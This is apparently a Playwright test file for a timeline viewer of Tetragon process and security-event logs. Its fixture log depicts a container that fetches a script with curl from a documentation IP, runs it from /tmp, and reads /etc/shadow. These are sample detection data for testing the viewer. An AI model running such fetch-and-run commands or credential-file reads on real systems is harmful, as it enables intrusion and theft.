import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'
import { boxOf, type ShownRange } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..100s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
      12 /bin/sh /tmp/.x 40s..60s
        13 /usr/bin/id 45s..50s
        14 /usr/bin/find / 42s..58s exit 1
  host n1
    1 /usr/lib/systemd/systemd -3600s.. procFS
`)

const at = (second: number): number => Date.parse('2024-05-01T10:00:00Z') + second * 1000
const lengthOf = ({ from, to }: ShownRange): number => to - from
const fractionOf = (second: number, { from, to }: ShownRange): number => (at(second) - from) / (to - from)

test.describe('a log of 100 seconds', () => {
  withLog(log.text)

  test('at first the whole log is visible, without what ran before it', async ({ viewer }) => {
    const { from, to } = await viewer.visibleRange()
    expect(from).toBeLessThanOrEqual(at(0))
    expect(from).toBeGreaterThan(at(-10))
    expect(to).toBeGreaterThanOrEqual(at(100))
    expect(to).toBeLessThan(at(110))
    await expect(viewer.brush).toHaveAttribute('aria-valuetext', /^09:59:5\d\.\d+ to 10:01:4\d\.\d+$/)
  })

  test('w and s zoom, a and d pan, 0 shows the whole log', async ({ viewer, page }) => {
    await viewer.focusTree()
    const zoomed = await viewer.changeRange(() => page.keyboard.press('w'))
    expect(lengthOf(zoomed.after)).toBeCloseTo(lengthOf(zoomed.before) * 0.7, -2)
    const right = await viewer.changeRange(() => page.keyboard.press('d'))
    expect(right.after.from).toBeGreaterThan(right.before.from)
    expect(Math.abs(lengthOf(right.after) - lengthOf(right.before))).toBeLessThanOrEqual(1)
    const left = await viewer.changeRange(() => page.keyboard.press('a'))
    expect(Math.abs(left.after.from - right.before.from)).toBeLessThanOrEqual(1)
    const out = await viewer.changeRange(() => page.keyboard.press('s'))
    expect(lengthOf(out.after)).toBeGreaterThan(lengthOf(out.before))
    await page.keyboard.press('w')
    const whole = await viewer.changeRange(() => page.keyboard.press('0'))
    expect(whole.after).toEqual(zoomed.before)
  })

  test('keys zoom around the selected process', async ({ viewer, page }) => {
    await viewer.selectRow('/usr/bin/curl')
    const { after } = await viewer.changeRange(async () => {
      for (let i = 0; i < 6; i++) await page.keyboard.press('w')
    })
    await expect.poll(async () => lengthOf(await viewer.visibleRange())).toBeLessThan(20_000)
    expect(after.from).toBeLessThanOrEqual(at(10))
    expect(after.to).toBeGreaterThan(at(10))
  })

  test('f fits the selected process and what it started', async ({ viewer, page }) => {
    await viewer.selectRow('/bin/sh')
    const { after } = await viewer.changeRange(() => page.keyboard.press('f'))
    expect(after.from).toBeGreaterThan(at(35))
    expect(after.from).toBeLessThanOrEqual(at(40))
    expect(after.to).toBeGreaterThanOrEqual(at(60))
    expect(after.to).toBeLessThan(at(65))
  })

  test('a double click on a span fits its process', async ({ viewer, page }) => {
    const row = viewer.row('/usr/bin/curl')
    const { x, y } = await viewer.pointOn(row, fractionOf(15, await viewer.visibleRange()))
    const { after } = await viewer.changeRange(() => page.mouse.dblclick(x, y))
    expect(after.from).toBeGreaterThan(at(5))
    expect(after.to).toBeLessThan(at(25))
    await expect(row).toHaveAttribute('aria-selected', 'true')
  })

  test('a span says what it is under the pointer, and a click selects its process', async ({ viewer, page }) => {
    const { x, y } = await viewer.pointOn(viewer.row('/usr/bin/curl'), fractionOf(15, await viewer.visibleRange()))
    await page.mouse.move(x, y)
    const tip = page.locator('.tooltip')
    await expect(tip).toContainText('/usr/bin/curl')
    await expect(tip).toBeInViewport({ ratio: 1 })
    await expect(tip).toContainText('exit 22 after 10 s')
    await expect(tip).toContainText(/10:00:1[45]\./)
    await page.mouse.click(x, y)
    await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
    await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/curl')
    await page.mouse.move(5, 5)
    await expect(tip).toHaveCount(0)
  })

  test('ctrl and the wheel zoom, and the time under the pointer stays there', async ({ viewer, page }) => {
    const before = await viewer.visibleRange()
    const fraction = fractionOf(20, before)
    const { x, y } = await viewer.pointOn(viewer.row('/usr/bin/curl'), fraction)
    await page.mouse.move(x, y)
    await page.keyboard.down('Control')
    const { after } = await viewer.changeRange(() => page.mouse.wheel(0, -300))
    await page.keyboard.up('Control')
    expect(lengthOf(after)).toBeLessThan(lengthOf(before) * 0.5)
    const under = after.from + fraction * lengthOf(after)
    expect(Math.abs(under - at(20))).toBeLessThan(200)
    expect(await page.evaluate(() => window.visualViewport?.scale)).toBe(1)
  })

  test('dragging pans, and does not select', async ({ viewer, page }) => {
    const { x, y } = await viewer.pointOn(viewer.row('/bin/bash'), 0.5)
    const { width } = await boxOf(viewer.canvas)
    const { before, after } = await viewer.changeRange(async () => {
      await page.mouse.move(x, y)
      await page.mouse.down()
      await page.mouse.move(x - width / 8, y, { steps: 4 })
      await page.mouse.move(x - width / 4, y, { steps: 4 })
      await page.mouse.up()
    })
    const shift = (after.from - before.from) / lengthOf(before)
    expect(shift).toBeCloseTo(0.25, 1)
    await expect(viewer.selectedRow).toHaveCount(0)
  })

  test('the brush over the overview is dragged to a part of the log', async ({ viewer, page }) => {
    const whole = await viewer.visibleRange()
    const box = await boxOf(viewer.brush)
    const drag = async (from: number, to: number): Promise<void> => {
      await page.mouse.move(box.x + box.width * from, box.y + box.height / 2)
      await page.mouse.down()
      await page.mouse.move(box.x + box.width * to, box.y + box.height / 2, { steps: 6 })
      await page.mouse.up()
    }
    // asked until it is so: the range follows each move of the pointer, the last one a moment later
    const expectRange = (from: number, to: number): Promise<void> =>
      expect
        .poll(async () => {
          const range = await viewer.visibleRange()
          const fractions = [range.from, range.to].map((ms) => (ms - whole.from) / lengthOf(whole))
          return Math.max(Math.abs(fractions[0] - from), Math.abs(fractions[1] - to))
        })
        .toBeLessThan(0.02)
    await drag(0.3, 0.5)
    await expectRange(0.3, 0.5)
    await drag(0.4, 0.6)
    await expectRange(0.5, 0.7)
    await drag(0.7, 0.9)
    await expectRange(0.5, 0.9)
    const { after } = await viewer.changeRange(() => page.mouse.dblclick(box.x + box.width * 0.1, box.y + 20))
    expect(after).toEqual(whole)
  })

  test('the brush is moved with the arrow keys, and made wider or narrower with shift', async ({ viewer, page }) => {
    await viewer.focusTree()
    await viewer.changeRange(() => page.keyboard.press('w'))
    await viewer.brush.focus()
    const right = await viewer.changeRange(() => page.keyboard.press('ArrowRight'))
    expect(right.after.from).toBeGreaterThan(right.before.from)
    expect(right.after.to).toBeGreaterThan(right.before.to)
    const narrow = await viewer.changeRange(() => page.keyboard.press('Shift+ArrowLeft'))
    expect(lengthOf(narrow.after)).toBeLessThan(lengthOf(narrow.before))
    const text = await viewer.brush.getAttribute('aria-valuetext')
    expect(text).toContain(new Date(narrow.after.from).toISOString().slice(11, 23))
  })

  test('the events list holds the events of the visible range', async ({ viewer, page }) => {
    // systemd was there before the log: its start is not in the range
    await expect(viewer.events.getByRole('option')).toHaveCount(log.lines.length - 1)
    await viewer.selectRow('/usr/bin/curl')
    await viewer.changeRange(() => page.keyboard.press('f'))
    await expect(viewer.events.getByRole('option')).toHaveText([
      /^10:00:10\.000.*process.*default\/xwing \/usr\/bin\/curl/,
      /^10:00:20\.000.*exit.*default\/xwing \/usr\/bin\/curl.* 22$/,
    ])
  })

  test('a click on an event selects its process; the list can be limited to it', async ({ viewer, page }) => {
    await viewer.events.getByRole('option').filter({ hasText: '/usr/bin/id' }).first().click()
    await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-selected', 'true')
    await page.getByRole('checkbox', { name: 'only the selected process' }).check()
    await expect(viewer.events.getByRole('option')).toHaveText([/process.*\/usr\/bin\/id/, /exit.*\/usr\/bin\/id/])
  })

  test('times are shown in UTC, in the zone of the browser, or since the first event', async ({
    viewer,
    page,
    folder,
  }) => {
    const firstEvent = viewer.events.getByRole('option').first()
    await viewer.button('UTC').click()
    await expect(viewer.status).toContainText('local')
    await viewer.button('Local').click()
    await expect(viewer.status).toContainText('−2.000 s – +1m 42.000s (1m 44s)')
    await expect(firstEvent).toHaveText(/^\+0\.000 s/)
    await viewer.selectRow('/usr/bin/curl')
    await expect(viewer.details.getByText('+10.000000000 s')).toBeVisible()
    await expect(viewer.row('/usr/bin/curl').getByRole('gridcell').nth(1)).toHaveAccessibleName(
      '+10.000 s, 10 s, exit 22',
    )
    await expect(viewer.brush).toHaveAttribute('aria-valuetext', '−2.000 s to +1m 42.000s')
    await page.reload()
    await viewer.openFiles(await folder.write('tetragon.log', log.text))
    await viewer.button('Relative').click()
    await expect(viewer.status).toContainText('UTC')
  })
})

test('the wheel scrolls the rows, and stops at both ends', async ({ viewer, page, folder }) => {
  const rows = Array.from({ length: 200 }, (_, i) => `      ${100 + i} /bin/step-${i} ${i}s..${i + 1}s`)
  const drawing = `  pod default/worker container 1fb931d2 node n1\n    10 /bin/bash 0s..300s\n${rows.join('\n')}`
  await viewer.goto()
  await viewer.openFiles(await folder.write('long.log', drawLog(drawing).text))
  const { x, y } = await viewer.pointOn(viewer.row('/bin/step-3'), 0.5)
  await page.mouse.move(x, y)
  await page.mouse.wheel(0, 1200)
  await expect(viewer.row('/bin/step-52')).toBeInViewport()
  await expect(viewer.row('/bin/step-3')).not.toBeInViewport()
  await page.mouse.wheel(0, 100_000)
  await expect(viewer.row('/bin/step-199')).toBeInViewport()
  await viewer.waitForIdle()
  const end = await boxOf(viewer.row('/bin/step-199'))
  const canvas = await boxOf(viewer.canvas)
  expect(end.y + end.height).toBeLessThanOrEqual(canvas.y + canvas.height + 1)
  await page.mouse.wheel(0, -100_000)
  await expect(viewer.row('default/worker')).toBeInViewport()
  expect((await boxOf(viewer.row('default/worker'))).y).toBe(canvas.y)
  const whole = await viewer.visibleRange()
  await page.keyboard.down('Shift')
  await viewer.changeRange(() => page.mouse.wheel(0, 200))
  await page.keyboard.up('Shift')
  expect(lengthOf(await viewer.visibleRange())).toBe(lengthOf(whole))
})

test('a label and its span are on one line, also after scrolling', async ({ viewer, page, folder }) => {
  const rows = Array.from({ length: 120 }, (_, i) => `    ${100 + i} /bin/step-${i} ${i}s..${i + 1}s exit ${i % 2}`)
  await viewer.goto()
  await viewer.openFiles(await folder.write('long.log', drawLog(`  host n1\n${rows.join('\n')}`).text))
  const range = await viewer.visibleRange()
  const start = await viewer.pointOn(viewer.row('/bin/step-3'), 0.5)
  await page.mouse.move(start.x, start.y)
  await page.mouse.wheel(0, 777)
  await expect(viewer.row('/bin/step-40')).toBeInViewport()
  await viewer.waitForIdle()
  const { x, y } = await viewer.pointOn(viewer.row('/bin/step-40'), fractionOf(40.5, range))
  await page.mouse.click(x, y)
  await expect(viewer.row('/bin/step-40')).toHaveAttribute('aria-selected', 'true')
})

test('labels stay beside their spans, whatever the browser scrolls into view', async ({ viewer, folder }) => {
  const long = Array.from(
    { length: 90 },
    (_, i) => `    ${100 + i} /bin/sleep ${'9'.repeat(400)} ${i} ${i}s..${i + 1}s`,
  )
  await viewer.goto()
  await viewer.openFiles(await folder.write('long.log', drawLog(`  host n1\n${long.join('\n')}`).text))
  const first = viewer.row('n1')
  const before = await boxOf(first)
  await expect(viewer.rows.last()).not.toBeInViewport()
  // as a search in the page does, or a selection of text that is drawn over the edge
  for (const row of [viewer.rows.last(), viewer.events.getByRole('option').last()])
    await row.evaluate((element) => {
      element.scrollIntoView()
      for (const part of element.querySelectorAll('*')) part.scrollIntoView({ block: 'end', inline: 'end' })
    })
  expect(await boxOf(first)).toEqual(before)
  const scrolled = await viewer.workbench.evaluate((workbench) =>
    [...workbench.querySelectorAll('.timeline *, .event-row, .event-row *')]
      .filter(({ scrollTop, scrollLeft }) => scrollTop !== 0 || scrollLeft !== 0)
      .map(({ className }) => className),
  )
  expect(scrolled).toEqual([])
})

test.describe('at 720 × 450, a small screen at 200 %', () => {
  test.use({ viewport: { width: 720, height: 450 } })

  test('the bars are complete, and there is room for rows and spans', async ({ viewer, page }) => {
    await viewer.goto('#v=1&src=sample')
    await viewer.waitForIdle()
    const names = [
      'UTC',
      'Copy link',
      'Export',
      'Pods pane',
      'Events pane',
      'Details pane',
      'Find an action',
      'Keys',
      'Close log',
    ]
    for (const name of names) await expect(viewer.button(name)).toBeInViewport({ ratio: 1 })
    await expect(viewer.filter).toBeInViewport({ ratio: 1 })
    expect((await boxOf(viewer.filter)).width).toBeGreaterThan(90)
    await expect(viewer.status.getByText(/UTC \(/)).toBeInViewport({ ratio: 1 })
    await expect(viewer.status.getByRole('button', { name: /data quality/ })).toBeInViewport({ ratio: 1 })
    await expect(viewer.status.getByText('attention')).toBeInViewport({ ratio: 1 })
    await expect(viewer.pods.getByText('xwing')).toBeInViewport({ ratio: 1 })
    await expect(viewer.canvas).toBeInViewport({ ratio: 1 })
    expect((await boxOf(viewer.canvas)).width).toBeGreaterThan(100)
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(720)
    expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(450)
    await page.keyboard.press('ControlOrMeta+k')
    await expect(page.getByRole('dialog')).toBeInViewport({ ratio: 1 })
  })
})

test.describe('at 1280 × 720', () => {
  test.use({ viewport: { width: 1280, height: 720 } })

  test('nothing important is cut off in either theme', async ({ viewer, page }) => {
    await viewer.goto()
    for (const colorScheme of ['dark', 'light'] as const) {
      await page.emulateMedia({ colorScheme })
      for (const name of ['Open files', 'Open the sample', 'Connect']) {
        await expect(viewer.button(name)).toBeInViewport({ ratio: 1 })
      }
    }
    await viewer.openSample()
    await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
    await viewer.selectRow('/usr/bin/netserver')
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      const names = ['UTC', 'Copy link', 'Pods pane', 'Events pane', 'Details pane', 'Keys', 'Close log']
      for (const name of names) await expect(viewer.button(name)).toBeInViewport({ ratio: 1 })
      await expect(viewer.button(/^Theme/)).toBeInViewport({ ratio: 1 })
      await expect(viewer.filter).toBeInViewport({ ratio: 1 })
      await expect(viewer.details.getByRole('heading', { level: 2 })).toBeInViewport({ ratio: 1 })
      await expect(viewer.status.getByText(/UTC \(/)).toBeInViewport({ ratio: 1 })
      await expect(viewer.status.getByRole('button', { name: /data quality/ })).toBeInViewport({ ratio: 1 })
      await expect(viewer.events).toBeInViewport({ ratio: 1 })
      await expect(viewer.canvas).toBeInViewport({ ratio: 1 })
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280)
      expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(720)
      const { width } = await boxOf(viewer.canvas)
      expect(width).toBeGreaterThan(200)
    }
  })

  test('both layouts and the order of rows can be chosen in the narrowest column of labels', async ({
    viewer,
    page,
  }) => {
    await viewer.goto()
    await viewer.openSample()
    const resizer = page.getByRole('separator', { name: 'Resize labels' })
    await resizer.focus()
    for (let i = 0; i < 14; i++) await page.keyboard.press('ArrowLeft')
    await expect(resizer).toHaveAttribute('aria-valuenow', '160')
    const { x } = await boxOf(resizer)
    for (const name of ['tree', 'packed', 'Order and folding of rows']) {
      const box = await boxOf(viewer.button(name))
      expect(box.x + box.width).toBeLessThanOrEqual(x)
    }
    for (let i = 0; i < 14; i++) await page.keyboard.press('ArrowRight')
  })

  test('the theme can be chosen against the system, and survives a reload', async ({ viewer, page }) => {
    const background = (): Promise<string> => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    await page.emulateMedia({ colorScheme: 'light' })
    await viewer.goto()
    await viewer.openSample()
    const light = await background()
    await viewer.button('Theme: system').click()
    await viewer.button('Theme: light').click()
    await expect(viewer.button('Theme: dark')).toBeVisible()
    await expect.poll(background).not.toBe(light)
    const dark = await background()
    await page.reload()
    await viewer.waitForIdle()
    expect(await background()).toBe(dark)
  })

  test('panes are as wide after a reload as they were made', async ({ viewer, page }) => {
    await viewer.goto()
    await viewer.openSample()
    const widths = async (): Promise<number[]> =>
      Promise.all([viewer.pods, viewer.details].map(async (pane) => Math.round((await boxOf(pane)).width)))
    const before = await widths()
    for (const name of ['Resize pods', 'Resize details']) {
      await page.getByRole('separator', { name }).focus()
      await page.keyboard.press('ArrowRight')
    }
    const [podsPx, detailsPx] = await widths()
    expect(podsPx).toBeGreaterThan(before[0])
    expect(detailsPx).toBeLessThan(before[1])
    // they are kept after a moment without a change
    const podsPart = (): Promise<unknown> =>
      page.evaluate(() => {
        const key = Object.keys(localStorage).find((name) => /columns.*pods.*details/.test(name))
        return (JSON.parse(localStorage.getItem(key ?? '') ?? '{}') as { readonly pods?: number }).pods
      })
    await expect.poll(podsPart).toBeCloseTo((100 * podsPx) / 1280, 0)
    await page.reload()
    await viewer.waitForIdle()
    expect(await widths()).toEqual([podsPx, detailsPx])
  })

  test('panes that are closed stay closed after a reload', async ({ viewer, page }) => {
    await viewer.goto()
    await viewer.openSample()
    const before = await boxOf(viewer.canvas)
    await viewer.button('Details pane').click()
    await expect(viewer.details).toHaveCount(0)
    await viewer.button('Events pane').click()
    await expect(viewer.events).toHaveCount(0)
    await expect.poll(async () => (await boxOf(viewer.canvas)).width).toBeGreaterThan(before.width)
    await page.reload()
    await viewer.waitForIdle()
    await expect(viewer.details).toHaveCount(0)
    await expect(viewer.button('Details pane')).toHaveAttribute('aria-pressed', 'false')
    await viewer.button('Details pane').click()
    await expect(viewer.details).toBeVisible()
  })
})

test('marks under the pointer are named', async ({ viewer, folder, page }) => {
  const marked = drawLog(`
    pod default/xwing container 1fb931d2 node n1
      10 /bin/bash 0s..100s
        * 50s security_file_open /etc/shadow policy sensitive-read
        * 50.000001s security_file_open /etc/shadow policy sensitive-read
        * 50.000002s tcp_connect 10.0.0.1:1->10.0.0.2:2 policy net action SIGKILL
  `)
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', marked.text))
  const fraction = fractionOf(50, await viewer.visibleRange())
  const { x, y } = await viewer.pointOn(viewer.row('/bin/bash'), fraction)
  await page.mouse.move(x, y)
  const names = page.locator('.tip-marks li')
  await expect(names).toHaveText([
    'kprobe tcp_connect · policy netSIGKILL 10:00:50.000002',
    '2 kprobe security_file_open · policy sensitive-read 10:00:50.000000 – 10:00:50.000001',
  ])
  await page.keyboard.press('v')
  await expect(viewer.lanes).toBeVisible()
  await viewer.waitForIdle()
  const lanes = await boxOf(viewer.canvas)
  await page.mouse.move(lanes.x + lanes.width * fraction, lanes.y + 26)
  await expect(names).toHaveCount(2)
})
